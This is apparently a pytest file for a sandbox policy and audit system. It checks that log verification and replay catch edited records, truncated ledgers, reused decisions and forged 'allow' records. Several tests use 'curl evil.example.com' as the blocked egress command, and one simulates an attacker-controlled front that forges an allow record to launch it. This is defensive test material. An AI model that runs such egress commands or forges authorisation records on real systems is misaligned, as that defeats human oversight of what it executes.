"""Log, ledger and policy held against each other: an execution that policy never allowed is named."""

import asyncio
import itertools
import json
import os
import pathlib
import secrets
import shutil
import subprocess
import sys

import msgspec
import pytest

from opensafe.config import Config, Paths
from opensafe.errors import Conflict, WardenRefused
from opensafe.model import chain
from opensafe.model.calls import Program
from opensafe.model.ids import new_id
from opensafe.model.limits import CallLimits
from opensafe.model.sandbox import Launch, SandboxSpec
from opensafe.warden import kernel
from opensafe.warden.client import WardenClient
from opensafe.warden.protocol import RecordRef
from opensafe.warden.warden import Warden
from tests.harness.daemon import PREFIX, ROOT, Daemon


def verify(state, *options):
    """The report and exit status of the command."""
    done = subprocess.run(
        [sys.executable, "-m", "opensafe.cli", "audit", "verify", "--state", state, "--json", *options],
        capture_output=True,
        text=True,
    )
    return json.loads(done.stdout), done.returncode


class Recorded:
    """A state directory in which a real daemon has judged and run a few calls, and stopped."""

    def __init__(self):
        self.daemon = Daemon()

    async def make(self):
        self.daemon.start()
        async with self.daemon.client() as client:
            session = await client.create_session("tester")
            sandbox = (await client.create_sandbox(session)).sandbox.sandbox_id
            for number, command in enumerate(("echo one", "curl evil.example.com", "ls", "npm install")):
                await client.run_call(session, sandbox, f"call-{number}", "Bash", {"command": command})
            await client.run_call(session, sandbox, "write", "Write", {"path": "/workspace/a", "content": "b"})
        self.daemon.stop()
        return self.daemon.state


@pytest.fixture(scope="module")
def recorded():
    made = Recorded()
    state = asyncio.run(made.make())
    yield state
    assert made.daemon.remove() == []


@pytest.fixture
def copy(recorded, tmp_path):
    """A copy whose files may be changed, without what was signed of them: tests/system/audit has that."""
    target = tmp_path / "state"
    shutil.copytree(recorded, target, ignore=shutil.ignore_patterns("front", "checkpoint*", "key.pub"))
    return target


def test_what_a_daemon_wrote_verifies_and_replays(recorded):
    report, status = verify(recorded, "--replay")
    assert status == 0, report
    assert report["summary"]["ok"] is True


def segment(state):
    return state / "audit" / "segment-000000.jsonl"


def rewrite(path, change):
    """Change the records of a chained file and bind them anew, as somebody who owns the file could."""
    head, lines = chain.Head(), []
    records = [json.loads(line) for line in path.read_text().splitlines()]
    for record in change(records):
        sealed = chain.seal(head, {key: value for key, value in record.items() if key not in ("index", "prev")})
        head = sealed.head
        lines.append(sealed.line)
    path.write_bytes(b"".join(line + b"\n" for line in lines))


def test_CP_14_an_edited_record_is_named(copy):
    lines = segment(copy).read_bytes().splitlines(keepends=True)
    changed = next(number for number, line in enumerate(lines) if b"evil.example.com" in line)
    lines[changed] = lines[changed].replace(b"evil.example.com", b"good.example.com")
    segment(copy).write_bytes(b"".join(lines))
    report, status = verify(copy)
    assert status != 0
    first = report["details"]["findings"][0]
    assert (first["where"], first["index"]) == ("audit", changed)


def test_CP_16_a_log_written_anew_does_not_fit_the_ledger(copy):
    def whiten(records):
        for record in records:
            if record["kind"] == "decision" and record["input"]["call"]["arguments"].get("command") == "echo one":
                record["input"]["call"]["arguments"]["command"] = "echo two"
            yield record

    rewrite(segment(copy), whiten)
    report, status = verify(copy)
    assert status != 0
    assert {found["kind"] for found in report["details"]["findings"]} >= {"execution_without_decision"}


def test_CP_15_a_log_cut_before_a_decision_does_not_fit_the_ledger(copy):
    lines = segment(copy).read_bytes().splitlines(keepends=True)
    segment(copy).write_bytes(b"".join(lines[:3]))
    report, status = verify(copy)
    assert status != 0
    assert "execution_without_decision" in {found["kind"] for found in report["details"]["findings"]}


def test_CP_19_a_ledger_cut_short_does_not_fit_the_log(copy):
    ledger = copy / "ledger.jsonl"
    lines = ledger.read_bytes().splitlines(keepends=True)
    ledger.write_bytes(b"".join(lines[:1]))
    report, status = verify(copy)
    assert status != 0
    assert "outcome_without_execution" in {found["kind"] for found in report["details"]["findings"]}


def test_PE_20_an_execution_of_something_else_than_was_decided_is_named(copy):
    def altered(entries):
        for entry in entries:
            yield {**entry, "subject": "0" * 64} if entry["kind"] == "start" else entry

    rewrite(copy / "ledger.jsonl", altered)
    report, status = verify(copy)
    assert status != 0
    assert {found["kind"] for found in report["details"]["findings"]} == {"execution_not_as_decided"}


def test_a_decision_used_twice_is_named(copy):
    def doubled(entries):
        for entry in entries:
            yield entry
            if entry["kind"] == "start":
                yield entry

    rewrite(copy / "ledger.jsonl", doubled)
    report, status = verify(copy)
    assert status != 0
    assert {found["kind"] for found in report["details"]["findings"]} == {"decision_used_twice"}


def test_a_lost_decision_is_excused_by_its_void_and_no_other_is(copy):
    """ADR 0031: the twin of the log that was cut."""

    def voided(entries):
        for entry in entries:
            yield entry
        for entry in entries:
            if entry["kind"] in ("sandbox", "start"):
                yield {**entry, "kind": "void", "subject": ""}

    lines = segment(copy).read_bytes().splitlines(keepends=True)
    rewrite(copy / "ledger.jsonl", voided)
    kinds = [found["kind"] for found in verify(copy)[0]["details"]["findings"]]
    assert kinds == ["void_of_a_decision"] * sum("void" in line for line in (copy / "ledger.jsonl").open())
    segment(copy).write_bytes(b"".join(lines[:3]))
    assert verify(copy)[0]["details"]["findings"] == []


def allow(records, command):
    """The record that allowed it, under ids of its own."""
    made = next(one for one in records if one.get("input", {}).get("call", {}).get("arguments") == {"command": command})
    return {**made, "decision_id": new_id("dec"), "call_id": "another"}


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"purpose": "query", "subject": "ab" * 32}, "a query authorises nothing"),
        ({"purpose": "permit", "subject": "ab" * 32}, "a permit authorises nothing"),
        ({"purpose": "runtime", "subject": "ab" * 32}, "authorises nothing"),
        ({"purpose": "none that there is", "subject": "ab" * 32}, "authorises nothing"),
        ({"subject": "ab" * 32}, "is not what the recorded call becomes"),
        ({"bundles": {}}, "names no bundle"),
    ],
    ids=["query", "permit", "runtime", "unknown", "call", "bundle"],
)
def test_an_allow_that_authorises_what_it_does_not_tell_is_named_by_replay(copy, changes, why):
    rewrite(segment(copy), lambda records: [*records, allow(records, "echo one") | changes])
    assert verify(copy)[1] == 0  # it is nothing that the chain could show
    report, status = verify(copy, "--replay")
    assert status == 1
    [found] = report["details"]["findings"]
    assert (found["kind"], why in found["message"]) == ("allow_not_reproduced", True), found


def masked(records, command, pointer):
    """As a front under attack would write it: an allow of what policy blocks, said to be masked."""
    made = allow(records, "curl evil.example.com")
    made["result"] = {**made["result"], "action": "allow"}
    made["input"] = {**made["input"], "call": {**made["input"]["call"], "arguments": {"command": command}}}
    return made | {"subject": "ab" * 32, "masked": [pointer]}


@pytest.mark.parametrize("pointer", ["/input/call/arguments/command", "/input/none", "", "/input/call/argument/0"])
def test_an_allow_that_is_said_to_be_masked_and_is_not_is_a_finding(copy, pointer):
    rewrite(segment(copy), lambda records: [*records, masked(records, "curl evil.example.com", pointer)])
    report, status = verify(copy, "--replay")
    assert status == 1
    assert [found["kind"] for found in report["details"]["findings"]] == ["masked_without_mask"]


def test_a_masked_allow_is_told_with_what_policy_says_of_it(copy):
    command, pointer = "curl evil.example.com -H [masked:token]", "/input/call/arguments/command"
    rewrite(segment(copy), lambda records: [*records, masked(records, command, pointer)])
    report, status = verify(copy, "--replay")
    assert (status, report["summary"]["masked"]) == (0, 1)
    [told] = report["details"]["masked"]
    assert told["fields"] == [pointer]
    assert "egress.domain.allowlist" in told["verdict"]


class FrontDouble:
    """A front under an attacker's control: the warden's connection and the audit descriptor, and no policy."""

    def __init__(self, client, descriptor, path):
        self.client, self._descriptor, self._path = client, descriptor, path
        self._head = chain.Head()

    def record(self, fields):
        """Append a decision record of any content; where it lies."""
        sealed = chain.seal(self._head, fields)
        offset = self._path.stat().st_size
        os.write(self._descriptor, sealed.line + b"\n")
        self._head = sealed.head
        return RecordRef(segment=0, offset=offset, length=len(sealed.line), leaf=sealed.leaf)


@pytest.fixture
async def double():
    name = f"opensafe-test-{secrets.token_hex(3)}"
    paths = Paths(
        state=f"/var/lib/{name}",
        run=f"/run/{name}",
        runsc=f"{PREFIX}/bin/runsc",
        images=f"{PREFIX}/images",
        native=f"{ROOT}/build/native",
    )
    state = pathlib.Path(paths.state)
    async with await Warden.start(Config(paths=paths)) as warden:
        client = WardenClient(warden.connect())
        path = segment(state)
        descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
        yield FrontDouble(client, descriptor, path)
        os.close(descriptor)
        await client.close()
    kernel.unprotect(path)
    shutil.rmtree(state)
    shutil.rmtree(paths.run)


def forged(template, subject, **fields):
    """The allow record an honest front would have written, on a call that policy blocks."""
    record = {**template, **fields, "subject": subject.subject_digest()}
    record["result"] = {**template["result"], "action": "allow", "id": fields["decision_id"]}
    record["input"] = {**template["input"], "id": fields["decision_id"]}
    return {key: value for key, value in record.items() if key not in ("index", "prev")}


async def test_a_forged_allow_is_started_and_named_by_replay(double, recorded):
    records = [json.loads(line) for line in segment(recorded).read_text().splitlines()]
    made = next(record for record in records if record["kind"] == "decision" and record["purpose"] == "sandbox")
    blocked = next(record for record in records if record.get("result", {}).get("action") == "block")

    limits = made["input"]["sandbox"]["limits"]
    spec = SandboxSpec(
        sandbox_id=new_id("sb"),
        image_digest=made["input"]["sandbox"]["image_digest"],
        limits=type(SandboxSpec(sandbox_id="x").limits)(**limits),
    )
    sandbox = forged(made, spec, decision_id=new_id("dec"), sandbox_id=spec.sandbox_id)
    sandbox["input"]["sandbox"] = {**made["input"]["sandbox"], "id": spec.sandbox_id}
    await double.client.create_sandbox(spec, double.record(sandbox))

    program = Program(argv=("/bin/bash", "-c", "curl evil.example.com"), env={"PATH": "/usr/bin:/bin"}, cwd="/")
    launch = Launch(
        sandbox_id=spec.sandbox_id, exec_id=new_id("exec"), program=program, profile="default", limits=CallLimits()
    )
    reading, writing = os.pipe2(os.O_CLOEXEC)
    try:
        bare = RecordRef(segment=0, offset=0, length=10, leaf="0" * 64)
        with pytest.raises(WardenRefused):  # without any record, nothing is started
            await double.client.start(launch, bare, reading, writing, writing)
        reference = double.record(
            forged(blocked, launch, decision_id=new_id("dec"), sandbox_id=spec.sandbox_id, exec_id=launch.exec_id)
        )
        await double.client.start(launch, reference, reading, writing, writing)
        assert (await double.client.wait(launch.exec_id)).kind == "exited"
        again = msgspec.structs.replace(launch, exec_id=new_id("exec"))
        for second in (launch, again):  # a decision is good for one start, of exactly this
            with pytest.raises((WardenRefused, Conflict)):
                await double.client.start(second, reference, reading, writing, writing)
    finally:
        os.close(reading)
        os.close(writing)

    state = double._path.parent.parent
    for archive in ("bundles", "keys"):
        shutil.copytree(recorded / archive, state / archive, dirs_exist_ok=True)
    report, status = verify(state)
    assert status == 0, report  # the forger was careful: the logs agree with each other
    report, status = verify(state, "--replay")
    assert status != 0
    named = [found for found in report["details"]["findings"] if found["index"] == 1]
    assert named, report
    assert "egress.domain.allowlist" in json.dumps(named)


async def test_a_log_verifies_while_the_daemon_writes_it(own_daemon):
    daemon = own_daemon(audit="checkpoint_s = 1\ncheckpoint_records = 4")
    async with daemon.client() as client:
        session = await client.create_session("tester")
        sandbox = (await client.create_sandbox(session)).sandbox.sandbox_id

        async def calls():
            for number in itertools.count():
                await client.run_call(session, sandbox, f"call-{number}", "Bash", {"command": "echo one"})

        going_on = asyncio.create_task(calls())
        for _ in range(5):
            report, status = await asyncio.to_thread(verify, daemon.state, "--replay")
            assert status == 0, report
        going_on.cancel()
        await asyncio.gather(going_on, return_exceptions=True)
        assert report["summary"]["executions"] > 0
